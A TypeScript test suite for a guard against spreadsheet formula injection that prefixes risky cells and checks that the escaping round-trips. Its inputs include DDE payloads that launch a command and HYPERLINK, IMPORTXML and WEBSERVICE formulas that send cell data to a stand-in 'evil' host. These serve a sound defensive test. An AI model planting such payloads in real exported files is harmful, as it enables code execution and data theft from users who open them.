import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardFormula, liftGuard } from './formula-guard';

describe('the guard against formulas', () => {
  it.each([
    ...['=1+1', '+977', '-2', '@SUM(A1)', '\ta', '\ra', '\na', '＝1', '＋1', '－1', '＠a'],
    ...['=', '+', '-', '@', '\t', '\r', '\n', '+9779843818700', '-1-1', '--1', '=-1', '@@', '＝＝1'],
    ...[
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("https://evil.example/?x="&A1,"open")',
      '=IMPORTXML(CONCAT("//evil",A1),"//a")',
    ],
    ...[
      '=DDE("cmd";"/C calc";"x")',
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '+1+cmd|x!A',
      '-2+3+cmd|x!A',
      '=WEBSERVICE("//evil")',
    ],
    ...['=नाम', '＝cmd|x!A', '＠SUM(A1)', "'=1", "''+1"],
  ])('guards %j', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
    expect(liftGuard(`'${text}`)).toBe(text);
  });

  // What parts cells for somebody: an Excel of a country that writes decimals with a comma parts them at a semicolon.
  it.each([
    [';=1', ";'=1"],
    ['x;=1+1', "x;'=1+1"],
    ['x;+977;-2;@a', "x;'+977;'-2;'@a"],
    ['x|=1', "x|'=1"],
    ['x\t=1', "x\t'=1"],
    ['x,=1', "x,'=1"],
    ['a\n=1', "a\n'=1"],
    ['a\r\n=1', "a\r'\n'=1"],
    ['=1;=2', "'=1;'=2"],
    ['\t=1', "'\t'=1"],
    ['x;"=1+1;y', `x;'"=1+1;y`],
    ['x;""=1', `x;'""=1`],
    ["x;'=1", "x;''=1"],
    ['x;＝1', "x;'＝1"],
    ['x;\t=1', "x;'\t'=1"],
  ])('guards what is a cell of its own for another separator: %j is %j', (text, safe) => {
    expect(guardFormula(text)).toBe(safe);
    expect(liftGuard(safe)).toBe(text);
  });

  it.each([
    'Ram',
    'a; b',
    'a;b=c',
    'Sita, Ram',
    'one\ntwo',
    "a;'b'",
    "O'Brien",
    "'quoted'",
    '1-2',
    'a=b',
    '',
    ' =1',
    '९८४३८१८७००',
    'a@b.example',
    '1+1',
    '(=1)',
    '"=1"',
    '.=1',
  ])('leaves %j alone', (text) => {
    expect(guardFormula(text)).toBe(text);
    expect(liftGuard(text)).toBe(text);
  });

  it('is undone exactly, also for texts that look guarded', () => {
    const marks = fc.string({ unit: fc.constantFrom("'", '"', ';', ',', '|', '\n', '=', '+', '@', '\t', 'a', '＝') });
    fc.assert(
      fc.property(fc.oneof(marks, fc.string({ unit: 'grapheme' })), (text) => {
        expect(liftGuard(guardFormula(text))).toBe(text);
        const [first, ...others] = guardFormula(text).split(/[;,|\t\r\n]/);
        for (const cell of [first, ...others.map((other) => other.replace(/^"+/, ''))])
          expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
      }),
      { numRuns: 1_000 },
    );
  });
});
